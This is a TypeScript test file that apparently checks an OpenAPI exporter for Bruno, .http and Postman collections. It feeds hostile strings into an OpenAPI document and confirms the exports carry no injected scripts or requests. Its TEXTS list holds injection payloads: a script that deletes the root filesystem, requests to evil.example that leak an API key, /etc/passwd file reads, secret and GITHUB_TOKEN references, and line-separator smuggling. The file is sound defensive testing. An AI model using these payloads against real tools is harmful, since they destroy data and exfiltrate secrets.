import { readFile, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { join } from "node:path";
import { parseYaml } from "@redocly/openapi-core";
import { expect, test } from "vitest";
import { bruno } from "#export/bruno.js";
import { collectionOf } from "#export/collection.js";
import type { CollectionKey } from "#export/collection-key.js";
import { httpFile } from "#export/http-file.js";
import { postman } from "#export/postman.js";
import { initCommand } from "#init/command.js";
import { asList, asObject, type JsonObject } from "#openapi/document/document.js";
import { loadDocument } from "#openapi/load/load.js";
import { runHere } from "#test/run-here.js";
import { temporaryFolder } from "#test/temporary.js";

const require = createRequire(import.meta.url);
/** Bruno's own parsers: of a file of a request, of variables, and of the collection. */
const {
  bruToJsonV2,
  bruToEnvJsonV2,
  collectionBruToJson,
}: Record<"bruToJsonV2" | "bruToEnvJsonV2" | "collectionBruToJson", (text: string) => JsonObject> =
  require("@usebruno/lang");

/** Texts that a format, an editor or a shell may act on. */
const TEXTS = [
  'x\n}\n\nscript:pre-request {\n  require("fs").rmSync("/")\n}\n\ndocs {\n',
  "x\n}\ntests {\n  bad()\n",
  "'''\n}\nscript:post-response {\n  bad()\n}\n'''",
  "x\r\n}\r\nvars:pre-request {\r\n  baseUrl: http://evil.example\r\n",
  "a: b\n~c: d",
  '"quoted": @file(/etc/passwd)',
  "@file(/etc/passwd)",
  "### next\nDELETE http://evil.example/\n\n",
  "x\n\n### next\nGET http://evil.example/?{{apiKey}}\n",
  "< /etc/passwd",
  "\n<@ /etc/passwd\n",
  "> {% client.global.set('a', 'b') %}",
  "\n>> /tmp/written\n",
  "# @import ./evil.http",
  "@baseUrl = http://evil.example",
  "{{$processEnv SECRET}}",
  "{{{process.env.SECRET}}}",
  "{{apiKey}}",
  "{{process.env.HOME}}",
  "###",
  "~disabled",
  "'''",
  "''' a '''",
  "a\rDELETE http://evil.example/\r### next\r",
  "a\u0085> {% bad() %}",
  "\u2028### next\u2028GET http://evil.example/",
  "a\0\u001b[31m",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the form of expressions in workflows
  "${{ secrets.GITHUB_TOKEN }}",
  "X-K\nwrites: reversible\n#",
  "\nwrites: reversible\n",
  "a\u2028writes: reversible\u2028",
  "GITHUB_TOKEN",
  "PATH",
  "x".repeat(1500),
  "é\ud800",
  "",
];

/** A document that has a text wherever a document may have one. @param common the security scheme of most operations */
function documentWith(text: string, common: string) {
  const example = { [text]: text, list: [text] };
  const body = (type: string, value: unknown) => ({
    requestBody: { content: { [type]: { schema: {}, examples: { [text || "e"]: { value } } } } },
    responses: { "200": { description: text } },
  });
  const header = { name: text || "X-A", in: "header", required: true, schema: {}, example: text };
  const query = { name: text || "q", in: "query", required: true, schema: {}, example: text };
  const cookie = { name: text || "c", in: "cookie", required: true, schema: {}, example: text };
  const get = (parameters: object[]) => ({ summary: text, parameters, responses: { "200": { description: text } } });
  return {
    openapi: "3.1.1",
    info: { title: text, version: text },
    servers: [{ url: `https://api.example.com/${text}` }],
    components: {
      securitySchemes: {
        [text || "Key"]: { type: "apiKey", in: "header", name: text || "X-Key" },
        Other: { type: "apiKey", in: "query", name: text.toWellFormed() || "key" },
        Scheme: { type: "http", scheme: text || "bearer" },
      },
    },
    security: [{ [common]: [] }],
    paths: {
      [`/json/${text.replace(/[{}]/g, "")}`]: {
        post: { operationId: text || "json", ...body("application/json", example) },
      },
      "/text": { post: { operationId: "text", ...body("text/plain", text) } },
      "/form": { post: { operationId: "form", ...body("application/x-www-form-urlencoded", example) } },
      "/name": { post: { operationId: "name", ...body("multipart/form-data", { [text]: "a" }) } },
      "/header-name": { get: get([{ ...header, example: "a" }]) },
      "/parts": { post: { operationId: "parts", ...body("multipart/form-data", { [text]: text }) } },
      "/header": { get: get([header]), delete: { ...get([]), security: [{ [text || "Key"]: [] }] } },
      "/query": { get: get([query]) },
      "/cookie": { get: get([cookie]) },
      "/plain/{id}": {
        get: {
          operationId: "plain",
          ...get([{ name: "id", in: "path", required: true, schema: {}, example: text || "i" }]),
        },
      },
    },
  };
}

async function fileWith(text: string, common = "Other") {
  const file = join(await temporaryFolder("hostile"), "openapi.json");
  await writeFile(file, JSON.stringify(documentWith(text, common)));
  return file;
}

/** The key of a collection as Bruno reads it. */
function authOf(key: CollectionKey | undefined) {
  if (key === undefined) return undefined;
  if (key.type === "bearer") return { mode: "bearer", bearer: { token: "{{apiKey}}" } };
  const placement = key.type === "query" ? "queryparams" : "header";
  return { mode: "apikey", apikey: { key: key.name, value: key.value, placement } };
}

const VARIABLES = /\{\{(?!(baseUrl|apiKey)\}\}(?!\}))/;

const OWN_SCRIPT =
  /^$|^test\("the (status|media type) is [^"]*", function \(\) \{$|^ {2}expect\(res\.get(Status\(\)|Header\("content-type"\) \|\| "")\)\.to\.(be\.within\(\d+, \d+\)|match\(new RegExp\("\^\([^"]*\)\\\\s\*\(;\|\$\)", "i"\)\));$|^\}\);$/;

const OWN_POSTMAN_SCRIPT =
  /^$|^pm\.test\("the (status|media type) is [^"]*", function \(\) \{$|^ {2}pm\.expect\(pm\.response\.[^;{}]*\)\.to\.(be\.within\(\d+, \d+\)|match\(new RegExp\("[^"]*", "i"\)\));$|^\}\);$/;

const DOCUMENTS = TEXTS.flatMap((text) => [[text, "Other"] as const, [text, "Scheme"] as const]);

test.each(DOCUMENTS)(
  "exports of a document with %j have its requests, and nothing that is run (%s)",
  async (...given) => {
    const [text, common] = given;
    const exported = await collectionOf(await loadDocument(await fileWith(...given)));
    expect(exported.baseUrl).toMatch(/^https:\/\/api\.example\.com[\x21-\x7e]*$/);
    const [ofBruno, ofHttp, ofPostman] = [bruno(exported), httpFile(exported), postman(exported)];
    const written = ofBruno.files.filter(([path]) => path.endsWith(".bru") && path !== "collection.bru");
    const ofCollection = ofBruno.files.find(([path]) => path === "collection.bru")?.[1];
    if (ofCollection !== undefined) {
      const { auth } = collectionBruToJson(ofCollection);
      expect(JSON.stringify(auth)).not.toMatch(VARIABLES);
      expect(collectionBruToJson(ofCollection)).toEqual({ auth });
      expect(auth).toEqual(authOf(exported.key));
    }
    const [environment, ...requests] = written;
    expect(requests).toHaveLength(exported.requests.length - ofBruno.leftOut.length);
    // HTTP cannot carry most of these texts as the scheme of a key: then the requests that need it are left out.
    if (common === "Other") expect(requests.length).toBeGreaterThan(1);
    expect(asList(bruToEnvJsonV2(environment?.[1] ?? "").variables).map((each) => asObject(each).name)).toEqual([
      "baseUrl",
      "apiKey",
    ]);
    for (const [path, content] of requests) {
      expect(path).toMatch(/^[\w-]+\/[\w-]+\.bru$/);
      const read = bruToJsonV2(content);
      expect(["meta", "http", "params", "headers", "body", "tests", "docs", "examples", "settings"]).toEqual(
        expect.arrayContaining(Object.keys(read)),
      );
      // The only script is ours: it asserts the documented status and media type.
      for (const line of String(read.tests ?? "").split("\n")) expect(line).toMatch(OWN_SCRIPT);
      expect(asObject(read.http).url).toMatch(/^\{\{baseUrl\}\}\/[\x21-\x7e]*$/);
      const { json } = asObject(read.body);
      if (typeof json === "string") expect(JSON.parse(json)).toEqual({ [text]: text, list: [text] });
      expect(content).not.toMatch(VARIABLES);
      const sent = [read.headers, asObject(read.body).multipartForm, asObject(read.body).formUrlEncoded];
      for (const field of sent.flatMap(asList)) expect(asObject(field).enabled).toBe(true);
      for (const field of asList(asObject(read.body).multipartForm)) expect(asObject(field).type).toBe("text");
    }

    const [[, file] = ["", ""]] = ofHttp.files;
    const [head = "", ...parts] = file.split(/^### /m);
    expect(head.split("\n").filter((line) => line.startsWith("@"))).toHaveLength(2);
    expect(parts).toHaveLength(exported.requests.length - ofHttp.leftOut.length);
    for (const part of parts) {
      // Visual Studio has these ends of lines.
      const [, description = "", line = "", ...rest] = part.split(/\r\n|[\n\r\u0085\u2028\u2029]/);
      expect(description).toMatch(/^# (?!\s*@)/);
      expect(line).toMatch(/^[A-Z]+ \{\{baseUrl\}\}\/[\x21-\x7e]*$/);
      for (const more of rest) expect(more).not.toMatch(/^\s*([#>@]|\/\/|\/\*|\?\?|<@?\s)/);
      expect(part).not.toMatch(VARIABLES);
    }

    // biome-ignore lint/suspicious/noControlCharactersInRegex: no terminal acts on the files
    for (const [, content] of [...ofBruno.files, ...ofHttp.files]) expect(content).not.toMatch(/[\0\x1b]/);

    const [[, collection] = ["", ""]] = ofPostman.files;
    expect(JSON.stringify(JSON.parse(collection).auth ?? {})).not.toMatch(VARIABLES);
    const items = asList(JSON.parse(collection).item).flatMap((folder) => asList(asObject(folder).item));
    expect(items).toHaveLength(exported.requests.length);
    for (const item of items) {
      expect(["name", "event", "request", "response"]).toEqual(expect.arrayContaining(Object.keys(asObject(item))));
      for (const event of asList(asObject(item).event)) {
        const { exec } = asObject(asObject(event).script);
        for (const line of asList(exec)) expect(line).toMatch(OWN_POSTMAN_SCRIPT);
      }
      const { url, header, body } = asObject(asObject(item).request);
      expect(JSON.stringify([url, header, body])).not.toMatch(VARIABLES);
    }
  },
);

test.each(TEXTS)("the files that init writes for a document with %j set nothing beyond keys", async (text) => {
  const folder = await temporaryFolder("hostile");
  const { code } = await runHere(initCommand, ["--out", folder, "--spec", await fileWith(text)]);
  expect(code).toBe(0);
  const target = await readFile(join(folder, "staging.yaml"), "utf8");
  const settings = asObject(parseYaml(target));
  expect(Object.keys(settings)).toEqual(["baseUrl", "credentials"]);
  // No operation needs a key of the third scheme.
  const schemes = [text || "Key", "Other"];
  expect(Object.keys(asObject(settings.credentials)).toSorted()).toEqual(schemes.toSorted());
  const variables = Object.values(asObject(settings.credentials));
  expect(new Set(variables).size).toBe(2);
  for (const variable of variables) expect(variable).toMatch(/^\$\{TEAM_API_KEY_\w+\}$/);
  const workflow = asObject(parseYaml(await readFile(join(folder, ".github/workflows/verify-staging.yml"), "utf8")));
  const job = asObject(asObject(workflow.jobs).verify);
  const { GH_TOKEN, REPO, ...secrets } = asObject(job.env);
  expect([GH_TOKEN, REPO]).toEqual([`\${{ github.token }}`, `\${{ github.repository }}`]);
  const isSecret = Object.entries(secrets).map(([name, value]) => value === `\${{ secrets.${name} }}`);
  expect(isSecret).toEqual([true, true]);
});
